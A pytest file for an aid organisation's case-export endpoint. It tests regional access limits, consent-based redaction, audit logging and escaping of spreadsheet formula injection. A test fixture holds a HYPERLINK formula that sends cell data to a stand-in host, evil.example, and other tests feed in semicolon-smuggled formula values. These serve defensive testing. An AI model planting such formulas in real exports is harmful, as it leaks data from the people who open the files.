"""GET /api/v1/cases/export: the list's cases as CSV or XLSX, opened again
here as a spreadsheet program would; only what the caller may see; audited."""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from afr_aid.extensions import db
from afr_aid.models import AuditEntry
from afr_aid.services.cases import workflow
from tests.api.conftest import API

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def read_csv(response) -> list[dict]:
    assert response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"), newline="")))


def read_xlsx(response) -> list[dict]:
    assert response.mimetype == XLSX
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    header, *rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == [], "no cell of the sheet may be a formula"
    return [{name: ("" if value is None else value) for name, value in zip(header, row)} for row in rows]


def export(client, headers, fmt="csv", **args):
    response = client.get(f"{API}/cases/export", query_string={"format": fmt, **args}, headers=headers)
    assert response.status_code == 200, response.get_data(as_text=True)
    return {"csv": read_csv, "xlsx": read_xlsx}[fmt](response)


@pytest.fixture
def world(people, file_case):
    """North Kivu: the volunteer's request (a formula in its description) and
    incident; another volunteer's request; South Kivu: one request."""
    own = file_case(people.volunteer, description=FORMULA,
                    person={"name": "Aline Uwimana", "phone": "+243970000111", "unhcr_id": "U-1"})
    incident = file_case(people.volunteer, "incident", reporter={"name": "Jean Temoin", "phone": "+243990000222"},
                         perpetrator_detail="Commander X",
                         consent={"record": True, "share": True, "statistics": True})
    other = file_case(people.other_volunteer, person={"name": "Neema Bahati"})
    south = file_case(people.sk_volunteer, location="CD-SK-UVI", person={"name": "Grace Mugeni"})
    return own, incident, other, south


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_coordinator_gets_the_cases_of_their_region_formulas_neutralised(client, auth, world, fmt):
    own, incident, other, south = world
    rows = export(client, auth.coordinator, fmt)
    by_ref = {row["ref"]: row for row in rows}
    assert set(by_ref) == {own.ref, incident.ref, other.ref}  # South Kivu's is not there
    assert [row["ref"] for row in rows] == [other.ref, incident.ref, own.ref]  # newest first, as the list
    assert by_ref[own.ref]["description"] == "'" + FORMULA
    assert by_ref[own.ref]["person_name"] == "Aline Uwimana"
    assert by_ref[own.ref]["person_phone"] == "'+243970000111"  # a leading + starts a formula too
    assert by_ref[own.ref]["location"] == "CD-NK-GOM" and by_ref[own.ref]["needs"] == "food"
    assert by_ref[incident.ref]["reporter_name"] == "Jean Temoin"
    assert by_ref[incident.ref]["perpetrator_detail"] == "Commander X"
    assert by_ref[incident.ref]["person_name"] == ""


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_without_consent_to_share_nothing_identifying_is_exported(client, auth, people, file_case, fmt):
    """docs/domain.md: without consent to share, nothing identifying leaves AFR."""
    kept = file_case(people.volunteer, person={"name": "Aline Uwimana", "phone": "+243970000111"},
                     place="Behind the Ndosho church", description="Aline sleeps at her aunt's.",
                     consent={"record": True, "share": False, "statistics": True})
    incident = file_case(people.volunteer, "incident", reporter={"name": "Jean Temoin", "phone": "+243990000222"},
                         perpetrator_detail="Commander X", description="Seen by Jean.")
    by_ref = {row["ref"]: row for row in export(client, auth.coordinator, fmt)}
    for ref in (kept.ref, incident.ref):
        row = by_ref[ref]
        for column in ("person_name", "person_phone", "person_unhcr_id", "reporter_name", "reporter_phone",
                       "perpetrator_detail", "description", "place"):
            assert row.get(column, "") == "", (ref, column)
        assert row["consent_share"] in ("false", False)
    assert by_ref[kept.ref]["needs"] == "food" and by_ref[incident.ref]["location"] == "CD-NK-GOM"


def test_a_semicolon_inside_a_value_cannot_start_a_formula_in_a_csv(client, auth, people, file_case):
    """French Excel splits CSV files on ";": whatever the program splits on,
    no cell starts a formula."""
    case = file_case(people.volunteer, description="Needs help;=1+1", place="Camp;@SUM(1)",
                     consent={"record": True, "share": True, "statistics": True})
    response = client.get(f"{API}/cases/export", query_string={"format": "csv"}, headers=auth.coordinator)
    body = response.get_data().decode("utf-8-sig")
    line = next(line for line in body.splitlines() if case.ref in line)
    assert '"Needs help;\'=1+1"' in line and '"Camp;\'@SUM(1)"' in line
    # Read as a spreadsheet set to ";" reads it: no cell starts a formula.
    for delimiter in (";", ",", "\t"):
        for cell in next(csv.reader(io.StringIO(line), delimiter=delimiter)):
            assert not cell.lstrip().startswith(("=", "@", "+", "-")), (delimiter, cell)


def test_a_volunteer_gets_their_own_cases_without_what_their_case_page_hides(client, auth, people, world,
                                                                              file_case):
    own, incident, other, south = world
    # The other volunteer's incident, assigned to our volunteer: seen, its reporter not.
    held = file_case(people.other_volunteer, "incident", reporter={"name": "Hidden Reporter", "phone": "+243990"})
    workflow.transition(people.coordinator, held, "assign", {"assignee": people.volunteer.email})
    rows = {row["ref"]: row for row in export(client, auth.volunteer)}
    assert set(rows) == {own.ref, incident.ref, held.ref}
    assert "perpetrator_detail" not in next(iter(rows.values()))
    assert rows[incident.ref]["reporter_name"] == "Jean Temoin"  # they filed it
    assert rows[held.ref]["reporter_name"] == "" and rows[held.ref]["reporter_phone"] == ""
    assert rows[own.ref]["person_name"] == "Aline Uwimana"


def test_the_list_filters_apply_and_another_region_sees_only_its_own(client, auth, world):
    own, incident, other, south = world
    assert [row["ref"] for row in export(client, auth.coordinator, kind="incident")] == [incident.ref]
    assert [row["ref"] for row in export(client, auth.coordinator, "xlsx", location="CD-SK")] == []
    assert [row["ref"] for row in export(client, auth.sk_coordinator)] == [south.ref]
    assert {row["ref"] for row in export(client, auth.admin)} == {own.ref, incident.ref, other.ref, south.ref}


def test_the_answer_is_an_attachment_nobody_keeps(client, auth, world):
    for fmt, extension in (("csv", ".csv"), ("xlsx", ".xlsx")):
        response = client.get(f"{API}/cases/export?format={fmt}", headers=auth.coordinator)
        assert response.headers["Cache-Control"] == "no-store"
        disposition = response.headers["Content-Disposition"]
        assert disposition.startswith("attachment;") and disposition.endswith(extension)


def test_every_export_is_audited_with_filters_and_count_never_the_data(client, auth, people, world):
    export(client, auth.coordinator, "xlsx", kind="assistance", q="Uwimana")
    entry = db.session.scalars(select(AuditEntry).where(AuditEntry.action == "case.export")).one()
    assert entry.actor_id == people.coordinator.id
    assert entry.detail == {"format": "xlsx", "rows": 1, "filters": {"kind": "assistance", "q": "(name search)"}}
    assert "Uwimana" not in str(entry.detail)


def test_donors_get_no_export_and_wrong_filters_are_named(client, auth, world):
    response = client.get(f"{API}/cases/export?format=csv", headers=auth.donor)
    assert response.status_code == 403 and response.get_json()["error"]["code"] == "forbidden"
    response = client.get(f"{API}/cases/export?format=pdf&location=CD-XX", headers=auth.coordinator)
    assert response.status_code == 422
    assert set(response.get_json()["error"]["fields"]) == {"format", "location"}
    assert client.get(f"{API}/cases/export").status_code == 401
    assert db.session.scalars(select(AuditEntry).where(AuditEntry.action == "case.export")).all() == []


def test_an_export_of_many_batches_is_complete(client, auth, people, file_case, monkeypatch):
    from afr_aid.services.protection import exports

    monkeypatch.setattr(exports, "BATCH", 3)  # read 3 cases at a time
    refs = {file_case(people.volunteer).ref for _ in range(3 * 3 + 1)}
    assert {row["ref"] for row in export(client, auth.coordinator)} == refs
